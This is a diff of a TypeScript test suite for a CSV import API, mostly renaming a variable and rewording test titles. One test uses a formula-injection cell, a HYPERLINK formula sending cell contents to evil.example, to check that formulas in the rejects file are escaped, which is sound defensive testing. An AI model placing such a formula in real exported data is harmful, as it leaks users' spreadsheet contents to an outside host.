@@ -411,11 +411,11 @@ suite('imports › forms of an execution', () => {
       const id = await makeImport()
       const csv = `Email;Name\nann${index}@example.org;Ann\nbob${index}@example.org;Bob\n`
       const { body, headers } = form(csv)
-      const { status, text, body: begun } = await call('POST', `/imports/${id}/executions`, { body, headers })
+      const { status, text, body: started } = await call('POST', `/imports/${id}/executions`, { body, headers })
       assert.equal(status, 200, text)
-      assert.equal(begun.state, 0)
-      assert.match(begun.source.filename, /^[0-9A-F]{10}_(a b|import)\.csv$/)
-      await runImport(context, { execution: begun.id })
+      assert.equal(started.state, 0)
+      assert.match(started.source.filename, /^[0-9A-F]{10}_(a b|import)\.csv$/)
+      await runImport(context, { execution: started.id })
       const { body: executions } = await call('GET', `/imports/${id}/executions`, { headers: LISTED })
       assert.equal(executions.length, 1)
       assert.equal(executions[0].state, 1)
@@ -515,11 +515,11 @@ suite('imports › forms of an execution', () => {
   test('answers when the run ends if the client prefers to wait', async () => {
     const id = await makeImport()
     const waiting = call('POST', `/imports/${id}/executions`, { body: TWO, headers: { ...CSV, prefer: 'wait=30' } })
-    let begun: { id: number } | undefined
-    while (!begun) begun = (await call('GET', `/imports/${id}/executions`, { headers: LISTED })).body[0]
-    await runImport(context, { execution: begun.id })
+    let started: { id: number } | undefined
+    while (!started) started = (await call('GET', `/imports/${id}/executions`, { headers: LISTED })).body[0]
+    await runImport(context, { execution: started.id })
     const { body } = await waiting
-    assert.equal(body.id, begun.id)
+    assert.equal(body.id, started.id)
     assert.equal(body.state, 1)
   })
 })
@@ -744,9 +744,9 @@ suite('imports › files', () => {
       }
       upload.end()
       const [answer] = await once(upload, 'response')
-      const begun = await answer.setEncoding('utf8').toArray()
+      const started = await answer.setEncoding('utf8').toArray()
       const again = await keyed(id, 'lasting', lines.join(''))
-      assert.deepEqual([again.headers['idempotent-replayed'], again.text], ['true', begun.join('')])
+      assert.deepEqual([again.headers['idempotent-replayed'], again.text], ['true', started.join('')])
       await runImport(context, { execution: again.body.id })
     })
 
@@ -917,7 +917,7 @@ suite('imports › lines', () => {
     assert.match(execution.warnings[0], /"Shoe size"/)
   })
 
-  test('disarms formulas in the file of rejects, whoever named a column and whatever a cell holds', async () => {
+  test('escapes formulas in the file of rejects, in names of columns and in cells', async () => {
     const { body: field } = await call('POST', '/fields', { body: { type: 'numeric', name: '=Sum' } })
     const id = await makeImport()
     const cell = '"=HYPERLINK(""https://evil.example/?""&A1;""look"")"'
@@ -936,7 +936,7 @@ suite('imports › lines', () => {
     )
   })
 
-  test('tells every fault of a line, in a file that is a CSV itself', async () => {
+  test('lists every fault of a line, in a file that is a CSV itself', async () => {
     const { body: field } = await call('POST', '/fields', { body: { type: 'numeric', name: 'Size;"big"' } })
     const id = await makeImport()
     const execution = await run(id, `Email;${field.id}\nno address;"a;b"\n`)
